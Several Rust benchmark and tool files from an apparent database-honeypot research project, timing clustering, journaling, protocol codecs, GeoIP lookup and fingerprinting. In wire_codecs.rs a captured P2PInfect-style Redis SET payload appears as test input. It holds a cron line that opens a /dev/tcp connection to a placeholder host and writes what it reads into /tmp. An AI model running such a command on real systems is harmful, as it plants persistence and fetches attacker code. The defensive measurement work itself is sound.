    let mut group = c.benchmark_group("frame_fold");
    group.sample_size(10);
    let geo = GeoDb::builtin();
    for n in [10_000usize, 100_000, 1_000_000] {
        let events = synthetic_events(n);
        group.throughput(Throughput::Elements(n as u64));

        let store = EventStore::new();
        store.log_many(events.iter().cloned());
        group.bench_with_input(BenchmarkId::new("batch_build", n), &n, |b, _| {
            b.iter(|| black_box(AnalysisFrame::build(&store, &geo)))
        });

        group.bench_with_input(BenchmarkId::new("fold_merge_seal", n), &n, |b, _| {
            b.iter(|| {
                let enricher = GeoEnricher::new(std::sync::Arc::clone(&geo));
                let folded = fold_chunks(&events, &enricher)
                    .into_iter()
                    .fold(PartialFrame::new(0), PartialFrame::merge);
                black_box(folded.seal())
            })
        });

        let enricher = GeoEnricher::new(std::sync::Arc::clone(&geo));
        let partials = fold_chunks(&events, &enricher);
        group.bench_with_input(BenchmarkId::new("merge_only", n), &n, |b, _| {
            b.iter(|| {
                black_box(
                    partials
                        .iter()
                        .cloned()
                        .fold(PartialFrame::new(0), PartialFrame::merge),
                )
            })
        });
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
