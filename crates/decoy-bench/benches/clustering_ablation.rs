//! Clustering ablations called out in DESIGN.md:
//!
//! 1. **Dedup before Ward** — the paper's population collapses thousands of
//!    bot IPs into dozens of unique action sequences. `cluster_sources`
//!    dedupes first (weighted Ward); the ablation runs Ward over every
//!    point. Same hierarchy, very different cost.
//! 2. **Ward scaling** — raw `ward_cluster` across population sizes.
//! 3. **Masking ablation** — §6.1's motivating design choice: clustering on
//!    masked actions vs raw command text. Raw text splits campaign bots on
//!    volatile parameters (hashes, loader IPs); masking collapses them.
//!
//! Run: `cargo bench -p decoy-bench --bench clustering_ablation`

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use decoy_analysis::cluster::{cluster_sources, ward_cluster};
use decoy_analysis::tf::TfVector;
use decoy_store::{Dbms, EventStore, InteractionLevel};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::hint::black_box;

/// Synthetic TF vectors: `k` true groups, `n` points.
fn synthetic(n: usize, k: usize, dims: usize) -> Vec<TfVector> {
    let mut rng = StdRng::seed_from_u64(42);
    (0..n)
        .map(|i| {
            let group = i % k;
            let mut values = vec![0.0; dims];
            values[group % dims] = 0.8 + rng.gen::<f64>() * 0.05;
            values[(group + 1) % dims] = 0.2 - rng.gen::<f64>() * 0.05;
            TfVector::from_dense(values, 10)
        })
        .collect()
}

fn bench(c: &mut Criterion) {
    // Ward scaling
    let mut group = c.benchmark_group("ward_scaling");
    for n in [32usize, 64, 128, 256] {
        let vectors = synthetic(n, 8, 16);
        let weights = vec![1.0; n];
        group.bench_with_input(BenchmarkId::from_parameter(n), &n, |b, _| {
            b.iter(|| black_box(ward_cluster(&vectors, &weights)))
        });
    }
    group.finish();

    // Dedup ablation on the shared experiment's Redis events: the real
    // pipeline (dedup, weighted) vs brute-force Ward over every source.
    let result = decoy_bench::shared_run();
    let med_high = EventStore::from_events(
        result
            .store
            .filter(|e| e.honeypot.level != InteractionLevel::Low),
    );
    let docs = decoy_analysis::tf::action_sequences(&med_high, Some(Dbms::Redis));
    let (_, vectors, _) = decoy_analysis::tf::vectorize(&docs);
    println!(
        "redis sources: {} (unique sequences drive the dedup win)",
        vectors.len()
    );
    let mut group = c.benchmark_group("dedup_ablation");
    group.sample_size(10);
    group.bench_function("with_dedup(cluster_sources)", |b| {
        b.iter(|| black_box(cluster_sources(&med_high, Some(Dbms::Redis), 0.05)))
    });
    let weights = vec![1.0; vectors.len()];
    group.bench_function("without_dedup(raw_ward)", |b| {
        b.iter(|| black_box(ward_cluster(&vectors, &weights)))
    });
    group.finish();

    // Masking ablation (§6.1): cluster on masked actions vs raw commands.
    let masked = cluster_sources(&med_high, Some(Dbms::Redis), 0.05);
    let raw_clusters = cluster_on_raw(&med_high, Dbms::Redis, 0.05);
    println!(
        "masking ablation (Redis): {} clusters with masking, {} without          (the paper's DELETE /tmp/hash1 vs hash2 argument)",
        masked.num_clusters, raw_clusters
    );
    let mut group = c.benchmark_group("masking_ablation");
    group.sample_size(10);
    group.bench_function("masked_actions", |b| {
        b.iter(|| black_box(cluster_sources(&med_high, Some(Dbms::Redis), 0.05)))
    });
    group.bench_function("raw_commands", |b| {
        b.iter(|| black_box(cluster_on_raw(&med_high, Dbms::Redis, 0.05)))
    });
    group.finish();
}

/// Cluster on raw command text (no masking): the ablated §6.1 pipeline.
fn cluster_on_raw(store: &EventStore, dbms: Dbms, threshold: f64) -> usize {
    use decoy_analysis::tf::{TfVector, Vocabulary};
    use decoy_store::EventKind;
    use std::collections::{BTreeMap, HashMap};
    let mut docs: BTreeMap<std::net::IpAddr, Vec<String>> = BTreeMap::new();
    for event in store.by_dbms(dbms) {
        let term = match &event.kind {
            EventKind::Command { raw, .. } => Some(raw.clone()),
            EventKind::LoginAttempt { .. } => Some("LOGIN".to_string()),
            EventKind::Payload { preview, .. } => Some(preview.clone()),
            _ => None,
        };
        let doc = docs.entry(event.src).or_default();
        if let Some(term) = term {
            doc.push(term);
        }
    }
    // dedup identical raw documents (same as the real pipeline)
    let mut unique: Vec<Vec<String>> = Vec::new();
    let mut members: Vec<f64> = Vec::new();
    let mut by_doc: HashMap<Vec<String>, usize> = HashMap::new();
    for doc in docs.values() {
        match by_doc.get(doc) {
            Some(&i) => members[i] += 1.0,
            None => {
                by_doc.insert(doc.clone(), unique.len());
                unique.push(doc.clone());
                members.push(1.0);
            }
        }
    }
    let mut vocab = Vocabulary::new();
    let vectors: Vec<TfVector> = unique
        .iter()
        .map(|d| TfVector::from_terms(d, &mut vocab))
        .collect();
    let dendrogram = ward_cluster(&vectors, &members);
    dendrogram.clusters_at(threshold)
}

criterion_group! {
    name = benches;
    // experiment analyses run hundreds of ms per iteration; 10 samples keep
    // the full `cargo bench` sweep in minutes
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
