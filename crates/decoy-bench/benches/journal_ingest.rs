//! Durable journal ingest and replay throughput vs the JSON-lines dataset
//! path, across event counts spanning three orders of magnitude. Four
//! measurements per size:
//!
//! * `journal_write` — append through a [`JournalWriter`] (group commit,
//!   fsync disabled so the numbers measure the encoding + buffered-write
//!   path, not the disk)
//! * `journal_replay` — decode the same segments back with
//!   [`recover_events`]
//! * `json_export` — `EventStore::to_json_lines`, the pre-journal
//!   persistence baseline
//! * `json_import` — `EventStore::from_json_lines` on that output
//!
//! Results are recorded in `BENCH_journal.json` at the repo root.
//!
//! Run: `cargo bench -p decoy-bench --bench journal_ingest`

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use decoy_bench::BENCH_SEED;
use decoy_store::journal::encode::encode_segment;
use decoy_store::journal::JournalConfig;
use decoy_store::{
    recover_events, ConfigVariant, Dbms, Event, EventKind, EventStore, HoneypotId,
    InteractionLevel, JournalWriter,
};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};

/// Synthetic capture shaped like the real log mix: mostly connects and
/// commands, a sprinkling of logins, payloads, and malformed input.
fn synthetic_events(n: usize) -> Vec<Event> {
    let mut rng = StdRng::seed_from_u64(BENCH_SEED);
    let dbms = [Dbms::Redis, Dbms::MySql, Dbms::Postgres, Dbms::MongoDb];
    (0..n)
        .map(|i| {
            let kind = match rng.gen_range(0..10) {
                0..=2 => EventKind::Connect,
                3..=4 => EventKind::Disconnect,
                5..=7 => EventKind::Command {
                    action: format!("ACTION_{}", rng.gen_range(0..48)),
                    raw: format!("command body {i} with arguments"),
                },
                8 => EventKind::LoginAttempt {
                    username: "root".into(),
                    password: format!("pw{}", rng.gen_range(0..1000)),
                    success: false,
                },
                _ => EventKind::Payload {
                    len: rng.gen_range(16..512),
                    recognized: None,
                    preview: "\\x03\\x00\\x00\\x13".into(),
                },
            };
            Event {
                ts: decoy_net::time::EXPERIMENT_START.add_millis(i as u64),
                honeypot: HoneypotId::new(
                    dbms[i % dbms.len()],
                    InteractionLevel::Medium,
                    ConfigVariant::Default,
                    0,
                ),
                src: IpAddr::V4(Ipv4Addr::from(rng.gen::<u32>())),
                session: (i / 8) as u64,
                kind,
            }
        })
        .collect()
}

/// Fresh temp dir per write iteration so rotation starts from segment 0.
fn temp_dir(tag: &str, n: usize) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "decoy-bench-journal-{}-{tag}-{n}",
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn bench(c: &mut Criterion) {
    let mut group = c.benchmark_group("journal_ingest");
    group.sample_size(10);
    for n in [10_000usize, 100_000, 1_000_000] {
        let events = synthetic_events(n);
        group.throughput(Throughput::Elements(n as u64));

        group.bench_with_input(BenchmarkId::new("journal_write", n), &n, |b, _| {
            b.iter(|| {
                let dir = temp_dir("write", n);
                let cfg = JournalConfig {
                    fsync: false,
                    ..JournalConfig::spool(&dir)
                };
                let writer = JournalWriter::open(cfg).expect("open journal");
                for e in &events {
                    writer.append(e);
                }
                let stats = writer.close().expect("close journal");
                let _ = std::fs::remove_dir_all(&dir);
                black_box(stats)
            })
        });

        // one in-memory segmentation of the same stream, decoded repeatedly
        let segments: Vec<Vec<u8>> = events
            .chunks(65_536)
            .enumerate()
            .map(|(i, chunk)| encode_segment((i * 65_536) as u64, chunk))
            .collect();
        group.bench_with_input(BenchmarkId::new("journal_replay", n), &n, |b, _| {
            b.iter(|| black_box(recover_events(segments.clone())))
        });

        let store = EventStore::new();
        store.log_many(events.iter().cloned());
        group.bench_with_input(BenchmarkId::new("json_export", n), &n, |b, _| {
            b.iter(|| black_box(store.to_json_lines()))
        });

        let text = store.to_json_lines();
        group.bench_with_input(BenchmarkId::new("json_import", n), &n, |b, _| {
            b.iter(|| black_box(EventStore::from_json_lines(&text).expect("import")))
        });
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
