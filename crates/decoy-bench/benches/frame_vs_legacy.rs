//! Benchmarks the one-pass `AnalysisFrame` report path against the legacy
//! per-section store-scanning path. Both produce byte-identical reports
//! (pinned by `frame_report_matches_legacy_byte_for_byte` in decoy-core);
//! this bench quantifies what the single scan + interning + parallel
//! sections buy.
//! Run: `cargo bench -p decoy-bench --bench frame_vs_legacy`

use criterion::{criterion_group, criterion_main, Criterion};
use decoy_analysis::frame::{AnalysisFrame, Partition};
use decoy_analysis::upset::{upset, upset_view};
use decoy_core::report::MED_HIGH_FAMILIES;
use decoy_core::Report;
use decoy_store::{EventStore, InteractionLevel};
use std::hint::black_box;

fn bench(c: &mut Criterion) {
    let result = decoy_bench::shared_run();

    // sanity: the two paths agree before we time them
    let frame_text = Report::generate(result).render_text();
    let legacy_text = Report::generate_legacy(result).render_text();
    assert_eq!(frame_text, legacy_text, "frame and legacy reports diverged");

    // the one-pass materialization on its own
    c.bench_function("frame_build", |b| {
        b.iter(|| black_box(AnalysisFrame::build(&result.store, &result.geo)))
    });

    // full report: frame path (one scan, parallel sections)
    c.bench_function("report_frame", |b| {
        b.iter(|| black_box(Report::generate(result)))
    });

    // full report: legacy path (per-section scans and clones)
    c.bench_function("report_legacy", |b| {
        b.iter(|| black_box(Report::generate_legacy(result)))
    });

    // one representative section head-to-head: legacy includes the
    // sub-store clone its path pays on every report, the frame side
    // amortizes that into frame_build above.
    let frame = AnalysisFrame::build(&result.store, &result.geo);
    c.bench_function("fig4_legacy_substore", |b| {
        b.iter(|| {
            let med_high = EventStore::from_events(
                result
                    .store
                    .filter(|e| e.honeypot.level != InteractionLevel::Low),
            );
            black_box(upset(&med_high, &MED_HIGH_FAMILIES))
        })
    });
    c.bench_function("fig4_frame_view", |b| {
        b.iter(|| {
            black_box(upset_view(
                frame.view(Partition::MedHigh),
                &MED_HIGH_FAMILIES,
            ))
        })
    });
}

criterion_group! {
    name = benches;
    // full-report iterations run hundreds of ms; 10 samples keep the sweep
    // in minutes
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
