//! Protocol codec micro-benchmarks: the per-frame cost every honeypot
//! session pays. Run: `cargo bench -p decoy-bench --bench wire_codecs`

use bytes::BytesMut;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use decoy_net::codec::Codec;
use decoy_store::normalize_action;
use decoy_wire::mongo::bson::{doc, Bson};
use decoy_wire::mongo::{MongoCodec, MongoMessage};
use decoy_wire::{http, mysql, pgwire, resp, tds};
use std::hint::black_box;

fn bench(c: &mut Criterion) {
    // RESP: the P2PInfect SET command (payload-heavy frame)
    let set_cmd = resp::RespValue::command(&[
        "SET",
        "x",
        "*/1 * * * * root exec 6<>/dev/tcp/198.51.100.1/8080 && cat 0<&6 >/tmp/deadbeef",
    ]);
    let mut codec = resp::RespCodec::server();
    let mut encoded = BytesMut::new();
    codec.encode(&set_cmd, &mut encoded).unwrap();
    let resp_bytes = encoded.to_vec();
    let mut group = c.benchmark_group("resp");
    group.throughput(Throughput::Bytes(resp_bytes.len() as u64));
    group.bench_function("decode_set_command", |b| {
        b.iter(|| {
            let mut buf = BytesMut::from(&resp_bytes[..]);
            black_box(codec.decode(&mut buf).unwrap())
        })
    });
    group.bench_function("encode_set_command", |b| {
        b.iter(|| {
            let mut buf = BytesMut::new();
            codec.encode(black_box(&set_cmd), &mut buf).unwrap();
            black_box(buf)
        })
    });
    group.finish();

    // TDS LOGIN7: build + parse (the hot path of 18M brute attempts)
    let login = tds::Login7 {
        hostname: "WIN-SCAN".into(),
        username: "sa".into(),
        password: "P@ssw0rd".into(),
        appname: "OSQL-32".into(),
        servername: "10.0.0.1".into(),
        database: "master".into(),
    };
    let login_bytes = login.build();
    let mut group = c.benchmark_group("tds");
    group.throughput(Throughput::Bytes(login_bytes.len() as u64));
    group.bench_function("login7_build", |b| b.iter(|| black_box(login.build())));
    group.bench_function("login7_parse", |b| {
        b.iter(|| black_box(tds::Login7::parse(&login_bytes).unwrap()))
    });
    group.finish();

    // MySQL handshake response
    let mysql_login = mysql::LoginRequest::cleartext("root", "123456", None);
    let mysql_bytes = mysql_login.build();
    c.bench_function("mysql/login_parse", |b| {
        b.iter(|| black_box(mysql::LoginRequest::parse(&mysql_bytes).unwrap()))
    });

    // PostgreSQL startup
    let mut client = pgwire::PgClientCodec::new();
    let mut startup = BytesMut::new();
    client
        .encode(
            &pgwire::FrontendMessage::Startup {
                params: vec![
                    ("user".into(), "postgres".into()),
                    ("database".into(), "postgres".into()),
                ],
            },
            &mut startup,
        )
        .unwrap();
    let startup_bytes = startup.to_vec();
    c.bench_function("pgwire/startup_decode", |b| {
        b.iter(|| {
            let mut server = pgwire::PgServerCodec::new();
            let mut buf = BytesMut::from(&startup_bytes[..]);
            black_box(server.decode(&mut buf).unwrap())
        })
    });

    // BSON: a fake customer record
    let customer = doc! {
        "name" => "James Smith",
        "address" => "123 Johnson Street",
        "phone" => "+1-555-0100",
        "credit_card" => "4111111111111111",
        "tags" => vec![Bson::Int32(1), Bson::Int32(2)],
    };
    let msg = MongoMessage::msg(1, customer);
    let mut mongo = MongoCodec;
    let mut mongo_buf = BytesMut::new();
    mongo.encode(&msg, &mut mongo_buf).unwrap();
    let mongo_bytes = mongo_buf.to_vec();
    let mut group = c.benchmark_group("mongo");
    group.throughput(Throughput::Bytes(mongo_bytes.len() as u64));
    group.bench_function("op_msg_roundtrip", |b| {
        b.iter(|| {
            let mut buf = BytesMut::from(&mongo_bytes[..]);
            black_box(mongo.decode(&mut buf).unwrap())
        })
    });
    group.finish();

    // HTTP request parse (Elasticpot's hot path)
    let mut http_client = http::HttpClientCodec;
    let mut http_buf = BytesMut::new();
    http_client
        .encode(
            &http::HttpRequest::new("POST", "/_search")
                .with_body("application/json", r#"{"query":{"match_all":{}}}"#),
            &mut http_buf,
        )
        .unwrap();
    let http_bytes = http_buf.to_vec();
    c.bench_function("http/request_decode", |b| {
        b.iter(|| {
            let mut server = http::HttpServerCodec;
            let mut buf = BytesMut::from(&http_bytes[..]);
            black_box(server.decode(&mut buf).unwrap())
        })
    });

    // action masking (runs once per logged command)
    c.bench_function("mask/normalize_p2pinfect", |b| {
        b.iter(|| {
            black_box(normalize_action(
                "SET x */1 * * * * root exec 6<>/dev/tcp/198.51.100.1/8080 && cat 0<&6 >/tmp/0123456789abcdef",
            ))
        })
    });
}

criterion_group! {
    name = benches;
    // experiment analyses run hundreds of ms per iteration; 10 samples keep
    // the full `cargo bench` sweep in minutes
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
