//! Substrate micro/ablation benches: GeoIP trie vs linear scan, event-store
//! ingest, replay-mode ablation (direct emission vs full TCP), and an
//! end-to-end network login exchange (the cost of one of the paper's
//! 18 M brute-force attempts through the real TCP + TDS stack).
//!
//! Run: `cargo bench -p decoy-bench --bench substrate`

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use decoy_geo::GeoDb;
use decoy_net::time::EXPERIMENT_START;
use decoy_store::{
    ConfigVariant, Dbms, Event, EventKind, EventStore, HoneypotId, InteractionLevel,
};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::hint::black_box;
use std::net::IpAddr;

fn bench(c: &mut Criterion) {
    // --- GeoIP longest-prefix match: trie vs linear oracle -------------
    let geo = GeoDb::builtin();
    let mut rng = StdRng::seed_from_u64(7);
    let asns: Vec<u32> = geo.asns().collect();
    let addrs: Vec<IpAddr> = (0..1024)
        .map(|i| {
            if i % 2 == 0 {
                let asn = asns[rng.gen_range(0..asns.len())];
                IpAddr::V4(geo.sample_ip(asn, None, &mut rng).unwrap())
            } else {
                IpAddr::V4(std::net::Ipv4Addr::from(rng.gen::<u32>()))
            }
        })
        .collect();
    // linear oracle: scan every prefix of every AS
    let prefix_table: Vec<(u32, u32)> = asns
        .iter()
        .flat_map(|&asn| {
            geo.prefixes_of(asn, None)
                .into_iter()
                .map(move |p| (u32::from(p.base), asn))
        })
        .collect();
    let mut group = c.benchmark_group("geo_lookup");
    group.throughput(Throughput::Elements(addrs.len() as u64));
    group.bench_function("trie", |b| {
        b.iter(|| {
            let mut hits = 0usize;
            for &ip in &addrs {
                hits += geo.lookup(ip).is_some() as usize;
            }
            black_box(hits)
        })
    });
    group.bench_function("linear_scan_ablation", |b| {
        b.iter(|| {
            let mut hits = 0usize;
            for &ip in &addrs {
                if let IpAddr::V4(v4) = ip {
                    let addr = u32::from(v4);
                    hits += prefix_table
                        .iter()
                        .any(|(base, _)| addr & 0xffff_0000 == *base)
                        as usize;
                }
            }
            black_box(hits)
        })
    });
    group.finish();

    // --- event-store ingest ---------------------------------------------
    let template = Event {
        ts: EXPERIMENT_START,
        honeypot: HoneypotId::new(
            Dbms::Mssql,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
            0,
        ),
        src: "60.0.0.1".parse().unwrap(),
        session: 1,
        kind: EventKind::LoginAttempt {
            username: "sa".into(),
            password: "123".into(),
            success: false,
        },
    };
    let mut group = c.benchmark_group("event_store");
    group.throughput(Throughput::Elements(10_000));
    group.bench_function("ingest_10k_logins", |b| {
        b.iter(|| {
            let store = EventStore::new();
            for i in 0..10_000u32 {
                let mut e = template.clone();
                e.src = IpAddr::V4(std::net::Ipv4Addr::from(0x3c00_0000 | (i % 512)));
                store.log(e);
            }
            black_box(store.len())
        })
    });
    group.finish();

    // --- replay-mode ablation: direct emission cost per session -----------
    let geo2 = GeoDb::builtin();
    let population = decoy_agents::population::build_population(
        &decoy_agents::population::PopulationConfig::scaled(3, 0.005),
        &geo2,
    );
    let schedule = decoy_agents::schedule::build_schedule(&population, EXPERIMENT_START, 3);
    let plan = decoy_core::deployment::DeploymentPlan::scaled(3, 0.1);
    println!(
        "replay ablation: {} planned sessions, {} instances",
        schedule.len(),
        plan.len()
    );
    let mut group = c.benchmark_group("replay");
    group.sample_size(10);
    group.throughput(Throughput::Elements(schedule.len() as u64));
    group.bench_function("direct_mode_emission", |b| {
        b.iter(|| {
            let store = EventStore::new();
            let mut counters = vec![0u64; plan.len()];
            for session in &schedule {
                let Some(idx) = plan.pick(&session.target, session.src) else {
                    continue;
                };
                let mut sink = decoy_agents::direct::DirectSink {
                    store: &store,
                    honeypot: plan.instances[idx].id,
                    session_seq: &mut counters[idx],
                    fake_entries: &[],
                };
                decoy_agents::direct::emit_session(&mut sink, session);
            }
            black_box(store.len())
        })
    });
    group.finish();

    // --- end-to-end TDS login exchange over real TCP ---------------------
    {
        use decoy_agents::actors::TargetSelector;
        use decoy_agents::driver::run_session;
        use decoy_agents::schedule::PlannedSession;
        use decoy_agents::scripts::SessionScript;
        use decoy_honeypots::deploy::{spawn, HoneypotSpec};
        use decoy_net::time::Clock;
        use decoy_store::HoneypotId;

        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("runtime");
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::Mssql,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
            0,
        );
        let hp = runtime
            .block_on(spawn(
                store.clone(),
                HoneypotSpec::loopback(id, Clock::simulated(), 1),
            ))
            .expect("spawn honeypot");
        let addr = hp.addr();
        let session = PlannedSession {
            ts: EXPERIMENT_START,
            actor_idx: 0,
            src: std::net::Ipv4Addr::new(60, 36, 0, 9),
            target: TargetSelector::low_multi(Dbms::Mssql),
            script: SessionScript::MssqlBrute {
                creds: vec![("sa".to_string(), "123".to_string())],
            },
        };
        let mut group = c.benchmark_group("network");
        group.throughput(Throughput::Elements(1));
        group.bench_function("tds_login_exchange_e2e", |b| {
            b.iter(|| {
                let outcome = runtime.block_on(run_session(addr, &session));
                assert_eq!(outcome.errors, 0);
                black_box(outcome)
            })
        });
        group.finish();
        println!(
            "e2e note: each iteration = TCP connect + PROXY header + PRELOGIN + LOGIN7 + error reply ({} events logged)",
            store.len()
        );
        runtime.block_on(hp.shutdown());
    }
}
criterion_group! {
    name = benches;
    // experiment analyses run hundreds of ms per iteration; 10 samples keep
    // the full `cargo bench` sweep in minutes
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
