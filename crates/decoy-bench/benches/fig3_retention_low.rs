//! Regenerates Figure 3 of the paper and times the analysis behind it.
//! Run: `cargo bench -p decoy-bench --bench fig3_retention_low`

#![allow(unused_imports)]

use criterion::{criterion_group, criterion_main, Criterion};
use decoy_analysis::classify::classify_sources;
use decoy_analysis::ecdf::{retention_days, Ecdf};
use decoy_analysis::intel::{coverage, IntelFeed};
use decoy_analysis::tables;
use decoy_analysis::tagging::tag_sources;
use decoy_analysis::timeseries::hourly_series;
use decoy_analysis::upset::upset;
use decoy_core::report::MED_HIGH_FAMILIES;
use decoy_net::time::EXPERIMENT_START;
use decoy_store::{Dbms, EventStore, InteractionLevel};
use std::hint::black_box;
use std::sync::Arc;

#[allow(unused_variables, unused_imports, clippy::no_effect_underscore_binding)]
fn bench(c: &mut Criterion) {
    decoy_bench::print_section("Figure 3");
    let result = decoy_bench::shared_run();
    let low: Arc<EventStore> = EventStore::from_events(
        result
            .store
            .filter(|e| e.honeypot.level == InteractionLevel::Low),
    );
    let med_high: Arc<EventStore> = EventStore::from_events(
        result
            .store
            .filter(|e| e.honeypot.level != InteractionLevel::Low),
    );
    let low = &low;
    let med_high = &med_high;
    let geo = &result.geo;
    c.bench_function("fig3_retention_cdf", |b| {
        b.iter(|| {
            black_box(Ecdf::new(
                retention_days(low, None, EXPERIMENT_START)
                    .values()
                    .map(|&d| d as f64)
                    .collect(),
            ))
        })
    });
}

criterion_group! {
    name = benches;
    // experiment analyses run hundreds of ms per iteration; 10 samples keep
    // the full `cargo bench` sweep in minutes
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
