//! Ward clustering scaling sweep: the O(n²) nearest-neighbor-chain
//! `ward_cluster` vs the retained O(n³) global-scan `ward_cluster_naive`
//! across unique-document counts. Documents are synthetic sparse action
//! sequences over a small masked-term alphabet — the regime §6.1's dedup
//! leaves behind — seeded from the shared `BENCH_SEED`.
//!
//! Results are recorded in `BENCH_cluster.json` at the repo root.
//!
//! Run: `cargo bench -p decoy-bench --bench cluster_scale`

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use decoy_analysis::cluster::{ward_cluster, ward_cluster_naive};
use decoy_analysis::tf::{TfVector, Vocabulary};
use decoy_bench::BENCH_SEED;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::hint::black_box;

/// Synthetic unique weighted documents: `n` sparse TF vectors drawn from a
/// masked-term alphabet sized like a real per-DBMS vocabulary, with
/// dedup-style multiplicity weights.
fn synthetic_documents(n: usize) -> (Vec<TfVector>, Vec<f64>) {
    let mut rng = StdRng::seed_from_u64(BENCH_SEED);
    let alphabet = 48usize;
    let mut vocab = Vocabulary::new();
    let vectors = (0..n)
        .map(|_| {
            let len = 1 + rng.gen_range(0..12);
            let doc: Vec<String> = (0..len)
                .map(|_| format!("ACTION_{}", rng.gen_range(0..alphabet)))
                .collect();
            TfVector::from_terms(&doc, &mut vocab)
        })
        .collect();
    let weights = (0..n).map(|_| 1.0 + rng.gen_range(0..40) as f64).collect();
    (vectors, weights)
}

fn bench(c: &mut Criterion) {
    let mut group = c.benchmark_group("cluster_scale");
    group.sample_size(10);
    for n in [100usize, 500, 2000] {
        let (vectors, weights) = synthetic_documents(n);
        group.bench_with_input(BenchmarkId::new("chain", n), &n, |b, _| {
            b.iter(|| black_box(ward_cluster(&vectors, &weights)))
        });
        group.bench_with_input(BenchmarkId::new("naive", n), &n, |b, _| {
            b.iter(|| black_box(ward_cluster_naive(&vectors, &weights)))
        });
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
