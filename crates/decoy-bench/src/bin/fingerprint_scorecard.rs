//! `fingerprint_scorecard`: run the multistage fingerprinting probe
//! battery against the live loopback fleet and report the per-family
//! detectability scorecard.
//!
//! The fleet is spawned exactly as the experiment deploys it (same
//! deploy specs, hardened error catalog, seeded LAN latency shaper on a
//! wall clock) and probed with the genuine client codecs. Modes:
//!
//! * default            — print the scorecard JSON (or `--out FILE`)
//! * `--check`          — exit non-zero if any family scores worse than
//!                        the committed `FINGERPRINT_BASELINE.json`
//! * `--write-baseline` — rewrite the baseline, refusing regressions
//!                        (the same one-way ratchet as the hot-path
//!                        allocation baseline)
//!
//! Run: `cargo run -p decoy-bench --release --bin fingerprint_scorecard -- --check`

use decoy_fingerprint::{evaluate, fingerprint_fleet, EngineOptions, Scorecard};
use decoy_net::latency::{LatencyProfile, LatencyShaper};
use decoy_net::server::ListenerOptions;
use decoy_net::time::Clock;

const BASELINE: &str = "FINGERPRINT_BASELINE.json";

struct Args {
    out: Option<String>,
    check: bool,
    write_baseline: bool,
    samples: usize,
}

fn parse_args() -> Args {
    let mut parsed = Args {
        out: None,
        check: false,
        write_baseline: false,
        samples: 24,
    };
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--out" => parsed.out = args.next(),
            "--check" => parsed.check = true,
            "--write-baseline" => parsed.write_baseline = true,
            "--samples" => {
                parsed.samples = args
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(parsed.samples);
            }
            "--help" | "-h" => {
                eprintln!(
                    "usage: fingerprint_scorecard [--check] [--write-baseline] [--samples N] [--out FILE]"
                );
                std::process::exit(0);
            }
            other => {
                eprintln!("unknown argument: {other}");
                std::process::exit(2);
            }
        }
    }
    parsed
}

fn baseline_path() -> std::path::PathBuf {
    // Works from the workspace root (CI) and from the crate directory.
    let local = std::path::Path::new(BASELINE);
    if local.exists() {
        return local.to_path_buf();
    }
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .join(BASELINE)
}

fn main() {
    let args = parse_args();
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .expect("tokio runtime");

    let options = EngineOptions {
        listener: ListenerOptions {
            clock: Clock::Wall,
            latency: Some(LatencyShaper::new(11, LatencyProfile::lan())),
            ..ListenerOptions::default()
        },
        timing_samples: args.samples,
        seed: 11,
    };
    let surfaces = runtime
        .block_on(fingerprint_fleet(&options))
        .expect("probe the fleet");
    let (findings, card) = evaluate(&surfaces);

    for f in &findings {
        eprintln!("[{}] {} (+{}): {}", f.family, f.probe, f.weight, f.detail);
    }
    for (family, score) in card.entries() {
        eprintln!("{family:>10}: {score}");
    }

    let rendered = card.render_json();
    if let Some(path) = &args.out {
        std::fs::write(path, &rendered).expect("write scorecard");
        eprintln!("wrote {path}");
    } else if !args.check && !args.write_baseline {
        println!("{rendered}");
    }

    if args.check || args.write_baseline {
        let path = baseline_path();
        let committed = std::fs::read_to_string(&path).expect("read FINGERPRINT_BASELINE.json");
        let baseline =
            Scorecard::parse_json(&committed).expect("parse FINGERPRINT_BASELINE.json");
        if let Err(message) = Scorecard::ratchet(&baseline, &card) {
            eprintln!("{message}");
            std::process::exit(1);
        }
        if args.write_baseline {
            std::fs::write(&path, &rendered).expect("write FINGERPRINT_BASELINE.json");
            eprintln!("wrote {}", path.display());
        } else {
            eprintln!("scorecard within baseline ({} total)", card.total());
        }
    }
}
