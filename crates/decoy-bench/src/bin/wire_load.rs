//! `wire_load`: loopback sessions/sec load harness for the six wire
//! protocols.
//!
//! Spawns one honeypot per protocol (the same deploy specs the experiment
//! fleet uses), then drives scripted client sessions over real TCP
//! loopback sockets at maximum rate and reports, per protocol:
//!
//! * `sessions_per_sec` — completed sessions over wall-clock time
//! * `p50_ms` / `p99_ms` — per-session latency percentiles
//! * `bytes_per_sec` — bytes on the wire (both directions), counted at
//!   the socket so vectored writes and pooled-buffer reads are included
//!
//! Run: `cargo run -p decoy-bench --release --bin wire_load -- \
//!          --sessions 500 --concurrency 8 --out BENCH_wire.json`
//!
